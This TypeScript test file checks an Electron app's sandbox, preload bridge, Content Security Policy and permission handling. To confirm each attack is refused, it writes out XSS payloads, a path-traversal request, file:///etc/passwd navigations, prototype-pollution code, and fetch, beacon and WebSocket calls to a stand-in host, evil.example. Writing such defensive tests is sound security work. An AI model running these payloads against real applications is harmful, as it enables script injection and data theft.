import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { withoutBrowser } from '../../../e2e/support/browser.ts'
import { launchStandIn } from '../../../support/electron/launch.ts'
import type { StandIn } from '../../../support/electron/launch.ts'
import { buildSmallElectron, framesOf, inPage, openConnection } from './small-electron.ts'

describe.skipIf(withoutBrowser)('the doors of the Electron host, in the stand-in', () => {
  let built = ''
  let open: StandIn
  let folder = ''

  beforeAll(async () => {
    built = await buildSmallElectron('test-electron-doors')
    folder = await mkdtemp(join(tmpdir(), 'loracle-test-'))
    await writeFile(join(folder, 'questions.csv'), 'question,answer\n')
    const env = { SMALL_BUILD: built, SMALL_HOME: join(folder, 'home') }
    open = await launchStandIn({ main: join(built, 'main.js'), files: [folder], env })
    await open.page.waitForSelector('body[data-loaded=yes]')
  }, 120_000)
  afterAll(async () => {
    await open.close()
    await rm(folder, { recursive: true, force: true })
  })

  // The tests come in any order, and what one did to its page is none of the next one's business.
  beforeEach(async () => {
    await open.page.reload()
    await open.page.waitForSelector('body[data-loaded=yes]')
  }, 60_000)

  const told = (call: string): unknown[] =>
    open.calls.filter((one) => one.call === call).map(({ value }) => value)

  test('the preload offers its one small object, and the page has no Node', async () => {
    const surface = await inPage(open.page, (window) => [
      Object.keys(window.loracle).sort().join(' '),
      String(Object.isFrozen(window.loracle)),
      typeof (window as unknown as { require?: unknown }).require,
      typeof (window as unknown as { process?: unknown }).process,
    ])
    expect(surface).toEqual([
      'chooseFiles chooseFolder onMessage pathForFile platform send showItem',
      'true',
      'undefined',
      'undefined',
    ])
  })

  test('a dropped file has its path', async () => {
    await open.page.evaluate(
      "void document.body.appendChild(Object.assign(document.createElement('input'), { type: 'file' }))",
    )
    await open.page.setInputFiles('input', join(folder, 'questions.csv'))
    const path = await open.page.evaluate(
      "window.loracle.pathForFile(document.querySelector('input').files[0])",
    )
    expect(path).toBe(join(folder, 'questions.csv'))
  })

  test('dialogs give paths, and a file can be shown', async () => {
    const { page, answerDialogs } = open
    expect(await inPage(page, (window) => window.loracle.chooseFolder())).toBeNull()
    await answerDialogs({ showOpenDialog: { canceled: false, filePaths: [folder] } })
    expect(await inPage(page, (window) => window.loracle.chooseFolder())).toBe(folder)
    expect(await inPage(page, (window) => window.loracle.chooseFiles())).toEqual([folder])
    const others = ['relative', '\\\\server\\share', '//server/share', '/no/such/file', 'nul\0', 7, null, {}]
    for (const path of [...others, folder])
      await page.evaluate(`window.loracle.showItem(${JSON.stringify(path)})`)
    await expect.poll(() => told('showItemInFolder')).toEqual([folder])
    await answerDialogs({})
  })

  test('app:// serves the window’s files under the policy, and nothing beside them', async () => {
    const { page } = open
    await writeFile(join(built, 'renderer', '..', 'secret.txt'), 'secret')
    const answer = await page.evaluate(async () => {
      const found = await fetch('/assets/small-1.js')
      const beside = await fetch('/..%2fsecret.txt')
      return [found.status, found.headers.get('content-security-policy'), beside.status, await beside.text()]
    })
    expect(answer).toEqual([
      200,
      expect.stringContaining("default-src 'none'"),
      404,
      'There is nothing here.\n',
    ])
  })

  test('the policy is at work: no text becomes an element, script or style', async () => {
    const outcomes = await open.page.evaluate<string[]>(`(async () => {
        const rules = []
        document.addEventListener('securitypolicyviolation', ({ violatedDirective }) => rules.push(violatedDirective))
        const tried = (attempt) => { try { attempt() } catch (thrown) { rules.push(thrown.name) } }
        const make = (name, attributes) => document.body.appendChild(Object.assign(document.createElement(name), attributes))
        tried(() => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.hit = 1">'))
        tried(() => make('iframe', { srcdoc: '<script>parent.hit = 1</script>' }))
        tried(() => make('script', { text: 'window.hit = 1' }))
        tried(() => make('script', { src: 'https://evil.example/a.js' }))
        tried(() => make('img', { src: 'https://evil.example/a.png' }))
        tried(() => make('object', { data: 'https://evil.example/a.swf' }))
        tried(() => make('style', { textContent: '*{display:none}' }))
        tried(() => document.body.setAttribute('style', 'display:none'))
        tried(() => document.body.setAttribute('onclick', 'window.hit = 1'))
        tried(() => setTimeout('window.hit = 1', 0))
        tried(() => new Worker('/assets/small-1.js'))
        tried(() => make('base', { href: 'https://evil.example/' }))
        tried(() => document.write('<p>'))
        await new Promise((resolve) => setTimeout(resolve, 200))
        for (const element of document.querySelectorAll('iframe, script:not([src^="/"]), img, object, style, base')) element.remove()
        return [String(window.hit), String(getComputedStyle(document.body).display), ...new Set(rules)].sort()
      })()`)
    expect(outcomes).toEqual(
      [
        'undefined',
        'block',
        'TypeError',
        'require-trusted-types-for',
        'img-src',
        'style-src-elem',
        'style-src-attr',
        'base-uri',
      ].sort(),
    )
  })

  test('the window stays where it is: no other address, no new window, no request', async () => {
    const { page } = open
    const address = page.url()
    const link = (href: string, more = '{}') =>
      `document.body.appendChild(Object.assign(document.createElement('a'), { href: '${href}' }, ${more})).click()`
    const made = (name: string, more: string) =>
      `document.head.appendChild(Object.assign(document.createElement('${name}'), ${more}))`
    const attempts = [
      "location.href = 'https://evil.example/'",
      "location.replace('file:///etc/passwd')",
      "location.assign('data:text/html,owned')",
      "location.assign('app://evil/')",
      'location.href = "javascript:document.title=\'owned\'"',
      "void window.open('https://huggingface.co/google/flan-t5-small')",
      "void window.open('file:///etc/passwd')",
      "void window.open('about:blank', 'x', 'popup')",
      link('https://evil.example/'),
      link('https://evil.example/', "{ target: '_blank' }"),
      link('mailto:a@b.example'),
      link('/assets/small-1.js', "{ download: 'a.exe' }"),
      link('javascript:document.title=`owned`'),
      "document.body.appendChild(Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' })).submit()",
      made('meta', "{ httpEquiv: 'refresh', content: '0;url=https://evil.example/' }"),
      made('iframe', "{ src: 'https://evil.example/' }"),
      made('iframe', "{ src: '/' }"),
    ]
    for (const attempt of attempts) {
      await page.evaluate(attempt).catch(() => undefined)
      await page.waitForTimeout(30)
    }
    const sent = await page.evaluate<string[]>(`Promise.all([
        fetch('https://evil.example/').then(() => 'sent', () => 'refused'),
        fetch('http://127.0.0.1:1/', { mode: 'no-cors' }).then(() => 'sent', () => 'refused'),
        Promise.resolve(String(navigator.sendBeacon('https://evil.example/', 'x'))).catch(() => 'refused'),
        new Promise((resolve) => { const one = new WebSocket('wss://evil.example/'); one.onopen = () => resolve('sent'); one.onerror = () => resolve('refused') }),
      ])`)
    expect(sent.slice(0, 2)).toEqual(['refused', 'refused'])
    expect(sent[3]).toBe('refused')
    expect(page.url()).toBe(address)
    expect(await page.title()).toBe('Small')
    expect(page.context().pages()).toHaveLength(1)
    expect(page.frames().filter((frame) => frame.url().includes('evil'))).toEqual([])
    expect(told('openExternal')).toEqual([])
    expect(told('openPath')).toEqual([])
  })

  test('a frame, or a page of another origin, reaches neither calls nor dialogs nor the file manager', async () => {
    const { page, ask } = open
    await openConnection(page)
    await expect.poll(() => framesOf(page)).toEqual([{ ready: true, version: '1.2.3' }])
    const before = [told('showOpenDialog').length, told('showItemInFolder').length]
    const frames = [
      null,
      { url: 'app://loracle/', parent: {} },
      { url: 'https://evil.example/', parent: null },
      { url: 'app://evil/', parent: null },
      { url: 'app://loracle.evil/', parent: null },
      { url: 'app://loracle:1/', parent: null },
      { url: 'http://loracle/', parent: null },
      { url: 'file:///app://loracle/', parent: null },
      { url: 'about:blank', parent: null },
      { url: 'javascript:app://loracle/', parent: null },
      { url: '', parent: null },
    ]
    for (const frame of frames) {
      const own = { frame, args: [] }
      await ask({ ask: 'send', channel: 'loracle:rpc', frame, args: [''] })
      const call = '{"id":9,"method":"echo","args":{"text":"stolen"}}'
      await ask({ ask: 'send', channel: 'loracle:rpc', frame, args: [call] })
      await ask({ ask: 'send', channel: 'loracle:show-item', frame, args: [folder] })
      expect(await ask({ ask: 'invoke', channel: 'loracle:choose-files', ...own })).toEqual([])
      expect(await ask({ ask: 'invoke', channel: 'loracle:choose-folder', ...own })).toBeNull()
    }
    // What is no text is no message, and ends nothing but its own connection.
    expect(await framesOf(page)).toEqual([{ ready: true, version: '1.2.3' }])
    expect([told('showOpenDialog').length, told('showItemInFolder').length]).toEqual(before)
    await inPage(page, (window) => window.loracle.send('{"id":1,"method":"echo","args":{"text":"own"}}'))
    await expect.poll(() => framesOf(page)).toContainEqual({ id: 1, result: { text: 'own' } })
  })

  test('what a page does to its own prototypes stays in the page', async () => {
    const { page } = open
    await page.evaluate(`(() => {
        window.stolen = []
        Object.prototype.then = undefined
        Object.prototype.url = 'app://loracle/'
        const send = Function.prototype.call
        for (const name of ['send', 'invoke', 'on']) Object.prototype[name] = (...args) => { window.stolen.push(args); return null }
        Array.prototype.map = () => { window.stolen.push('map'); return [] }
        try { window.loracle.send = () => 1 } catch {}
        try { Object.defineProperty(window, 'loracle', { value: {} }) } catch {}
      })()`)
    expect(await page.evaluate('Object.isFrozen(window.loracle) && typeof window.loracle.send')).toBe(
      'function',
    )
    expect(await page.evaluate('window.stolen')).toEqual([])
  })

  test('permissions, devices and embedded pages are refused, but for copying to the clipboard', async () => {
    const own = 'app://loracle/'
    const refused = { request: false, check: false, device: false }
    for (const permission of [
      ...[
        'media',
        'geolocation',
        'notifications',
        'clipboard-read',
        'openExternal',
        'fullscreen',
        'pointerLock',
      ],
      ...['hid', 'serial', 'usb', 'fileSystem', 'midiSysex', 'display-capture', 'unknown', '__proto__'],
    ])
      expect(await open.ask({ ask: 'permission', permission, url: own })).toEqual(refused)
    const copying = { ask: 'permission', permission: 'clipboard-sanitized-write' } as const
    expect(await open.ask({ ...copying, url: own })).toEqual({ ...refused, request: true, check: true })
    expect(await open.ask({ ...copying, url: 'https://evil.example/' })).toEqual(refused)
    expect(await open.ask({ ask: 'contents', event: 'will-attach-webview' })).toMatchObject({
      isPrevented: true,
    })
    expect(await open.ask({ ask: 'contents', event: 'select-bluetooth-device' })).toEqual({
      isPrevented: true,
      chosen: '',
    })
  })
})
